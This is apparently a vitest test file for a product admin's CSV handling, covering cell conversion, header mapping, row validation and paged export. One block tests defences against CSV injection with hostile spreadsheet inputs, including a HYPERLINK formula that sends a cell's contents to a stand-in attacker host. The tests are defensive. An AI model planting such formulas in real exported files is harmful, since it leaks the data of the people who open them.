// CSV cells, header mapping, row validation with the forms' rules, and chunked export.
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { getResource } from "../../resources";
import type { FieldDefinition } from "../../resources/types";
import { fromCell, toCell } from "./cells";
import { ExportCancelled, exportCsv, exportFileName, UTF8_BOM } from "./exportCsv";
import { guessMapping, importFields, mappingIsUsable, mappingProblems } from "./mapping";
import { parseCsvText } from "./parseFile";
import { readRows } from "./validate";

const products = getResource("products");
const field = (name: string) => products.fields.find((f) => f.name === name) as FieldDefinition;
const cellMessage = (kind: string, f: FieldDefinition) => `${f.label}: not a ${kind}`;

/** Where a list row holds a reference's label: the embed selectFor asks for (lib/select.ts). */
const embedKey = (name: string) => {
  const reference = field(name).reference;
  return reference?.embedAs ?? reference?.resource ?? name;
};

describe("cells", () => {
  const record = {
    sku: "A-1",
    category_id: 6,
    [embedKey("category_id")]: { id: 6, name: "Books" },
    price: 12.5,
    tags: ["a", "b, c"],
    description: null,
  };

  it("export references as their label, tags joined, empty for null", () => {
    // The generated products (the live schema's) embed the category under a key of their own.
    expect(embedKey("category_id")).toBe("__ref_category_id");
    expect(toCell(field("category_id"), record)).toBe("Books");
    expect(toCell(field("tags"), record)).toBe("a; b, c");
    expect(toCell(field("price"), record)).toBe("12.5");
    expect(toCell(field("description"), record)).toBe("");
  });

  it("read back what export writes, and say why a cell cannot be read", () => {
    expect(fromCell(field("tags"), "a; b, c", cellMessage)).toEqual({ value: ["a", "b, c"] });
    expect(fromCell(field("price"), " 12,50 ", cellMessage)).toEqual({ value: 12.5 });
    expect(fromCell(field("price"), "twelve", cellMessage)).toEqual({ problem: "Price: not a number" });
    expect(fromCell(field("status"), "active", cellMessage)).toEqual({ value: "active" });
    expect(fromCell(field("status"), "sold", cellMessage)).toEqual({ problem: "Status: not a option" });
    expect(fromCell(field("name"), "  ", cellMessage)).toEqual({ empty: true });
    const blocked = getResource("customers").fields.find((f) => f.name === "is_blocked") as FieldDefinition;
    expect(fromCell(blocked, "Ja", cellMessage)).toEqual({ value: true });
    expect(fromCell(blocked, "maybe", cellMessage)).toEqual({ problem: "Blocked: not a boolean" });
  });
});

describe("formula cells (CSV injection)", () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?"&B2,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tindented",
    "\rreturn",
    "'=already quoted",
    "''+twice",
    "'plain apostrophe",
    "plain",
  ];

  it("neutralises text a spreadsheet would run, and leaves genuine numbers their value", () => {
    expect(toCell(field("name"), { name: hostile[0] })).toBe(`'${hostile[0]}`);
    expect(toCell(field("name"), { name: "@SUM(A1:A2)" })).toBe("'@SUM(A1:A2)");
    expect(toCell(field("name"), { name: "'=already quoted" })).toBe("''=already quoted");
    expect(toCell(field("name"), { name: "'plain apostrophe" })).toBe("'plain apostrophe");
    expect(toCell(field("tags"), { tags: ["-x", "y"] })).toBe("'-x; y");
    expect(toCell(field("category_id"), { category_id: 1, [embedKey("category_id")]: { name: "=cat" } })).toBe("'=cat");
    expect(toCell(field("price"), { price: -12.5 })).toBe("-12.5");
    expect(toCell(field("stock"), { stock: -3 })).toBe("-3");
  });

  it("reads back exactly what was exported, through a real CSV file", () => {
    const name = field("name");
    const price = field("price");
    const rows = hostile.map((text, i) => ({ name: text, price: i % 2 === 0 ? -12.5 : 3 }));
    const csv = Papa.unparse([["Name", "Price"], ...rows.map((row) => [toCell(name, row), toCell(price, row)])]);
    // The file as a spreadsheet sees it: nothing starts a formula.
    for (const line of csv.split("\r\n").slice(1)) expect(line).not.toMatch(/^"?[=+\-@\t\r]/);
    const { records } = parseCsvText(csv);
    const back = records.map((record) => ({
      name: fromCell(name, record.Name, cellMessage),
      price: fromCell(price, record.Price, cellMessage),
    }));
    expect(back).toEqual(rows.map((row) => ({ name: { value: row.name }, price: { value: row.price } })));
  });
});

describe("header mapping", () => {
  const fields = importFields(products);
  const german = (f: FieldDefinition) => ({ name: "Bezeichnung", price: "Preis" })[f.name] ?? f.label;

  it("matches names and labels in any case and language, and ignores the rest", () => {
    const mapping = guessMapping(["SKU", "bezeichnung", "Category", "price", "Updated", "Notes"], fields, german);
    expect(mapping).toEqual({
      SKU: "sku",
      bezeichnung: "name",
      Category: "category_id",
      price: "price",
      Updated: null,
      Notes: null,
    });
    expect(fields.map((f) => f.name)).not.toContain("image_path");
  });

  it("needs every required field once", () => {
    // The price has a default (0) in the database: not required; the SKU is.
    const problems = mappingProblems({ Name: "name", "Name 2": "name" }, fields);
    expect(problems.missing.map((f) => f.name)).toEqual(["sku"]);
    expect(problems.doubled.map((f) => f.name)).toEqual(["name"]);
    expect(mappingIsUsable(problems)).toBe(false);
    expect(mappingIsUsable(mappingProblems({ SKU: "sku", Name: "name", Price: "price" }, fields))).toBe(true);
  });
});

describe("rows checked with the forms' rules", () => {
  const fields = importFields(products);
  const mapping = { SKU: "sku", Name: "name", Price: "price", Category: "category_id", Tags: "tags", Extra: null };

  it("reads clean rows into values, leaving empty cells out", async () => {
    const result = await readRows(
      [{ SKU: "LAMP-1", Name: "Lamp", Price: "9.5", Category: "Books", Tags: "", Extra: "x" }],
      mapping,
      fields,
      cellMessage,
    );
    expect(result).toEqual({
      rows: [{ sku: "LAMP-1", name: "Lamp", price: 9.5, category_id: "Books" }],
      problems: [],
    });
  });

  it("reports each broken rule with its row and field", async () => {
    const elevenTags = Array.from({ length: 11 }, (_, i) => `t${i}`).join(";");
    const result = await readRows(
      [
        { SKU: "ok-1", Name: "", Price: "-1", Category: "", Tags: "" },
        { SKU: "GOOD-2", Name: "x".repeat(121), Price: "abc", Category: "", Tags: elevenTags },
      ],
      mapping,
      fields,
      cellMessage,
    );
    expect(result.problems).toEqual([
      { row: 1, field: "sku", message: "SKU must be 3–32 characters: capital letters, digits and dashes." },
      { row: 1, field: "name", message: "Name is required." },
      { row: 1, field: "price", message: "Price must be zero or more." },
      { row: 2, field: "price", message: "Price: not a number" },
      { row: 2, field: "name", message: "Name must be 1–120 characters." },
      { row: 2, field: "tags", message: "A product can have at most 10 tags." },
    ]);
  });
});

describe("export", () => {
  const fields = ["sku", "category_id", "tags"].map(field);
  const all = Array.from({ length: 2345 }, (_, i) => ({
    sku: `S-${i}`,
    [embedKey("category_id")]: { id: 1, name: i % 2 ? "Books" : 'Tea, "green"' },
    tags: ["x"],
  }));
  const fetchPage = async (page: number, size: number) => ({
    rows: all.slice((page - 1) * size, page * size),
    total: all.length,
  });

  it("writes every page in order as one CSV with a BOM, reporting progress", async () => {
    const progress: number[] = [];
    const { parts, rows } = await exportCsv({
      fields,
      header: ["SKU", "Category", "Tags"],
      fetchPage,
      chunkRows: 1000,
      onProgress: (done) => progress.push(done),
    });
    expect(rows).toBe(2345);
    expect(progress).toEqual([1000, 2000, 2345]);
    const text = parts.join("");
    expect(text.startsWith(UTF8_BOM)).toBe(true);
    const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;
    expect(parsed).toHaveLength(2346);
    expect(parsed[0]).toEqual(["SKU", "Category", "Tags"]);
    expect(parsed[1]).toEqual(["S-0", 'Tea, "green"', "x"]);
    expect(parsed[2345]).toEqual(["S-2344", 'Tea, "green"', "x"]);
  });

  it("stops when cancelled", async () => {
    const controller = new AbortController();
    const run = exportCsv({
      fields,
      header: ["SKU", "Category", "Tags"],
      fetchPage: async (page, size) => {
        if (page === 2) controller.abort();
        return fetchPage(page, size);
      },
      chunkRows: 1000,
      signal: controller.signal,
    });
    await expect(run).rejects.toBeInstanceOf(ExportCancelled);
  });

  it("names the file after the resource and the day", () => {
    expect(exportFileName("products", new Date("2025-06-11T10:00:00Z"))).toBe("products-2025-06-11.csv");
  });
});
